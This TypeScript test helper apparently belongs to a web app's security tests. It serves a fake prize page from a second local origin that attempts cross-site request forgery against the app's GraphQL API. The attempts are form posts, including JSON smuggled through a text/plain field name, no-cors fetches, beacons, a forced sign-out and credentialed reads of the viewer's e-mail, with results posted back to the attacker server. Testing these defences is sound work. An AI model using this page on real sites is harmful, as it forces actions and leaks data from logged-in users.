import { createServer } from 'node:http';
import { freePort } from '../../server/test/support/globalSetup.ts';

export interface AttackerPlan {
  /** The app under attack, e.g. http://localhost:4100. */
  victim: string;
  /** Persisted id of a mutation that appends events, and its variables. */
  mutation: { docId: string; variables: object };
  /** Persisted id of a query that reads the viewer's e-mail. */
  readViewer: string;
}

/**
 * A foreign origin: another port on the same host (same site, so SameSite=Lax cookies travel),
 * serving a page that tries every way a page can send a request without the app's consent: form
 * posts (url-encoded, text/plain, multipart), no-cors fetches, sendBeacon, an image GET, and
 * credentialed CORS fetches that try to read the answer. What it read is posted back to /report.
 */
export async function startAttacker(plan: AttackerPlan) {
  const reports: string[] = [];
  const port = await freePort();
  const server = createServer((req, res) => {
    if (req.method === 'POST' && req.url === '/report') {
      let body = '';
      req.on('data', (chunk: Buffer) => {
        body += chunk.toString();
      });
      req.on('end', () => {
        reports.push(body);
        res.writeHead(204).end();
      });
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(page(plan));
  });
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return {
    url: `http://localhost:${port}`,
    reports,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

function page(plan: AttackerPlan): string {
  const config = JSON.stringify(plan).replace(/</g, '\\u003c');
  return `<!doctype html>
<html><head><title>Win a free table</title></head><body>
<p>Congratulations!</p>
<script>
const C = ${config};
const graphql = C.victim + '/graphql';
const json = JSON.stringify({ doc_id: C.mutation.docId, variables: C.mutation.variables });
const formFields = { doc_id: C.mutation.docId, variables: JSON.stringify(C.mutation.variables) };
const persisted = (id, variables) => graphql + '?extensions=' +
  encodeURIComponent(JSON.stringify({ persistedQuery: { version: 1, sha256Hash: id } })) +
  (variables ? '&variables=' + encodeURIComponent(JSON.stringify(variables)) : '');

function post(action, enctype, fields) {
  const frame = document.createElement('iframe');
  frame.name = 'sink-' + Math.random().toString(36).slice(2);
  document.body.append(frame);
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', action, enctype, target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input');
    Object.assign(input, { name, value });
    form.append(input);
  }
  document.body.append(form);
  form.submit();
}

(async () => {
  const results = {};
  const attempt = async (name, run) => {
    try { results[name] = String(await run()); } catch (e) { results[name] = 'error: ' + e.message; }
  };
  post(graphql, 'application/x-www-form-urlencoded', formFields);
  // text/plain: the field name carries the JSON, the "=" lands in a throwaway string.
  post(graphql, 'text/plain', { [json.slice(0, -1) + ',"x":"']: '"}' });
  post(graphql, 'multipart/form-data', { operations: json, map: '{}' });
  post(C.victim + '/api/auth/sign-out', 'application/x-www-form-urlencoded', {});
  const noCors = (body, type) =>
    fetch(graphql, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: type ? { 'content-type': type } : {}, body })
      .then((r) => r.type);
  await attempt('no-cors text/plain', () => noCors(json, 'text/plain'));
  await attempt('no-cors url-encoded', () => noCors(new URLSearchParams(formFields)));
  await attempt('beacon text/plain', () => navigator.sendBeacon(graphql, new Blob([json], { type: 'text/plain' })));
  await attempt('beacon url-encoded', () => navigator.sendBeacon(graphql, new URLSearchParams(formFields)));
  await attempt('image GET of the mutation', () => new Promise((resolve) => {
    const img = new Image();
    img.onload = img.onerror = () => resolve('settled');
    img.src = persisted(C.mutation.docId, C.mutation.variables);
  }));
  const cors = (body) => fetch(graphql, {
    method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body,
  }).then((r) => r.text());
  await attempt('credentialed JSON mutation', () => cors(json));
  await attempt('credentialed JSON read', () => cors(JSON.stringify({ doc_id: C.readViewer })));
  await attempt('credentialed GET read', () =>
    fetch(persisted(C.readViewer), { credentials: 'include' }).then((r) => r.text()));
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
  document.title = 'done';
})();
</script>
</body></html>`;
}
